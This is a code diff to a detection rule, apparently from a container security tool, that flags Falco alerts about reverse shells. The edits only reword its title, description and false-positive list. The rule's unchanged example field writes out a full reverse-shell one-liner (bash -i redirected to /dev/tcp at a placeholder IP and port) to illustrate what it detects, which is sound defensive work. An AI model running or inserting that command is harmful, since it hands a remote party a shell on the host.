@@ -21,8 +21,8 @@ export const falcoReverseShell: ThreatRule = {
   reads: 'threat',
   feed: 'falco',
   names,
-  title: 'Reverse shell, by Falco',
-  sees: "An alert of Falco's rules about shells tied to a connection, and any alert whose process, or the process that started it, has the command line of one; such a command line is conclusive.",
+  title: 'Falco: reverse shell',
+  sees: "An alert of Falco's rules about shells connected to a network connection, and any alert whose process, or its parent, has the command line of a reverse shell; such a command line is conclusive.",
   why: 'Somebody elsewhere types commands in the container.',
   technique: [
     { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
@@ -32,7 +32,7 @@ export const falcoReverseShell: ThreatRule = {
   confidence: 0.9,
   family: 'threat-feed',
   conclusive: true,
-  falsePositives: ['Penetration tests', 'Programs that tie a socket to a child process by design'],
+  falsePositives: ['Penetration tests', 'Programs that connect a socket to a child process by design'],
   example: 'Terminal shell in container, with the command line bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   match: (signal) => {
     const seen = signal.commands.map(reverseShellIn).find((shell) => shell?.certain === true);
